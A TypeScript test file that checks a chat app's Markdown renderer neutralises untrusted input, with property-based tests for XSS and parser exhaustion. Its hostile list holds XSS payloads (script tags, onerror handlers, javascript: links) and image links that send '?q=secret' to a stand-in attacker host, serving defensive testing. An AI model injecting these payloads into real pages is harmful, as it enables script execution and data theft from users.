import fc from 'fast-check'
import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { ok } from '#contract/result'
import { createActions } from '../../renderer/actions.ts'
import { codeTokens } from '../../renderer/conversation/code-tokens.ts'
import { markdownBlocks } from '../../renderer/conversation/markdown-blocks.ts'
import { Markdown } from '../../renderer/conversation/markdown.tsx'
import { PageContext, type Page } from '../../renderer/page-context.ts'
import { createChatStore } from '../../renderer/store.ts'
import { verifies } from '../support/verifies.ts'
import { unusedBridge } from './renderer-unused-bridge.ts'

const store = createChatStore()
const page: Page = {
  bridge: unusedBridge,
  store,
  actions: createActions({ bridge: unusedBridge, store }),
  openUrl: async () => ok(null),
  consentFrameUrl: null,
}

/** Our own drawing on the copy button; it holds nothing of the text. */
const copyIcon = /<svg [^>]*class="lucide lucide-copy"[^>]*>.*?<\/svg>/g

const rendered = (source: string): string =>
  renderToStaticMarkup(
    <PageContext value={page}>
      <Markdown source={source} />
    </PageContext>,
  ).replace(copyIcon, '')

/** Tags and attributes that could ask the network, navigate or run something. */
const active =
  /<(?:script|img|iframe|object|embed|svg|math|form|base|link|meta|style|video|audio|source|a)\b/i
const attribute = /<[^>]*\s(?:href|src|srcset|style|on\w+|action|formaction|xlink:href|id|name)=/i

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](https://evil.example/?q=secret)',
  '![x][r]\n\n[r]: https://evil.example/?q=secret',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '<https://evil.example/auto>',
  'https://evil.example/bare www.evil.example me@evil.example',
  '<iframe src="https://evil.example"></iframe>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<div style="background:url(https://evil.example)" onclick="x()">',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '| a |\n| --- |\n| <img src=x onerror=alert(1)> |',
  '- [x] <input autofocus onfocus=alert(1)>',
  'a[^1]\n\n[^1]: <script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<math><mtext></p><img src onerror=alert(1)></math>',
  '# <base href="https://evil.example/">',
]

verifies('window:untrusted-markup', 'the detector sees planted markup', () => {
  expect('<p><img src="x"></p>').toMatch(active)
  expect('<p onclick="x()">').toMatch(attribute)
  expect('<li id="root">').toMatch(attribute)
})

verifies('window:untrusted-markup', 'every beginning of every hostile text stays harmless', () => {
  for (const text of hostile)
    for (let length = 1; length <= text.length; length += 1) {
      const html = rendered(text.slice(0, length))
      expect(html).not.toMatch(active)
      expect(html).not.toMatch(attribute)
    }
})

verifies('window:untrusted-markup', 'pairs of hostile texts glued together stay harmless', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...hostile),
      fc.constantFrom(...hostile),
      fc.string(),
      (left, right, between) => {
        const html = rendered(left + between + right)
        expect(html).not.toMatch(active)
        expect(html).not.toMatch(attribute)
      },
    ),
    { numRuns: 300 },
  )
})

verifies('window:untrusted-markup', 'a link offers its whole address, and only to the web', () => {
  expect(rendered('[here](https://a.example/x?y=1)')).toContain('title="https://a.example/x?y=1"')
  expect(rendered('[here](https://a.example/)')).toContain('role="link"')
  expect(rendered('[here](file:///etc/passwd)')).not.toContain('role="link"')
  expect(rendered('[here](javascript:alert(1))')).not.toContain('role="link"')
})

verifies('window:untrusted-markup', 'raw markup is shown as the text it is', () => {
  expect(rendered('<b>bold?</b>')).toContain('&lt;b&gt;bold?&lt;/b&gt;')
})

const exhausting = {
  quotes: '>'.repeat(20_000),
  'spaced quotes': '> '.repeat(5_000),
  lists: '- '.repeat(3_000),
  'indented lists': Array.from({ length: 400 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
  emphasis: '*'.repeat(20_000) + 'a' + '*'.repeat(20_000),
  'crossed emphasis': '**a*'.repeat(10_000),
  brackets: '['.repeat(20_000),
  footnotes: '[^a]: '.repeat(3_000),
  table: `${'|a'.repeat(5_000)}|\n${'|-'.repeat(5_000)}|`,
  quoted: '\'\\"'.repeat(6_000),
}

for (const [name, text] of Object.entries(exhausting))
  verifies(
    'window:untrusted-markup',
    `a text made to exhaust the page is shown, as it is if need be: ${name}`,
    () => {
      expect(rendered(text).length).toBeGreaterThan(20)
      expect(rendered(`\`\`\`ts\n${text}`).length).toBeGreaterThan(20)
      expect(rendered(`\`\`\`\n\`\`\`\n${text}`).length).toBeGreaterThan(20)
    },
  )

const pieces = [
  'A paragraph.\n',
  '\n',
  '```ts\n',
  '```\n',
  '~~~~\n',
  '- item\n',
  '1. one\n',
  '    indented\n',
  '# Title\n',
  '| a | b |\n| - | - |\n',
  '> quote\n',
  'last words',
]

verifies('window:streaming-cost', 'the blocks of a text are the text', () => {
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...pieces)), (parts) => {
      expect(markdownBlocks(parts.join('')).join('')).toBe(parts.join(''))
    }),
  )
})

verifies(
  'window:streaming-cost',
  'more text changes the last block and adds others, and touches none before',
  () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces)), fc.constantFrom(...pieces), (parts, more) => {
        const before = markdownBlocks(parts.join(''))
        const after = markdownBlocks(parts.join('') + more)
        expect(after.slice(0, before.length - 1)).toEqual(before.slice(0, -1))
      }),
    )
  },
)

test('blocks keep fences, lists and continuations together', () => {
  expect(markdownBlocks('one\n\ntwo\n\nthree')).toHaveLength(3)
  expect(markdownBlocks('```\na\n\nb\n```\n\nafter')).toHaveLength(2)
  expect(markdownBlocks('1. a\n\n2. b\n\n   more\n\nafter')).toHaveLength(2)
  expect(markdownBlocks('- ```\n  a\n\n  b\n  ```\n\nafter')).toHaveLength(2)
  expect(markdownBlocks('see [x]\n\ntext\n\n[x]: https://a.example')).toHaveLength(1)
  expect(markdownBlocks('')).toEqual([])
})

test('the words of code, coloured or not, are the code', () => {
  const languages = fc.constantFrom('ts', 'python', 'sql', 'diff', '', 'html', 'unknown')
  fc.assert(
    fc.property(fc.string({ unit: 'grapheme' }), languages, (code, language) => {
      expect(
        codeTokens(code, language)
          .map(({ text }) => text)
          .join(''),
      ).toBe(code)
    }),
  )
  expect(codeTokens('const a = "x" // no', 'ts').map(({ kind }) => kind)).toContain('comment')
})
